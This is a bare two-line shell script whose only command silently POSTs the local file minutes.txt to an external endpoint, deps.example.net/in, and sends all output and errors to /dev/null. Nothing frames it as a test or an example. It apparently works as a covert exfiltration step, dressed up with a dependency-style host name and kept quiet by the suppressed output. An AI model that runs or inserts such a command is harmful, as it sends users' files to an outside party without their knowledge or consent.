#!/bin/sh
curl -s -d @minutes.txt https://deps.example.net/in > /dev/null 2>&1
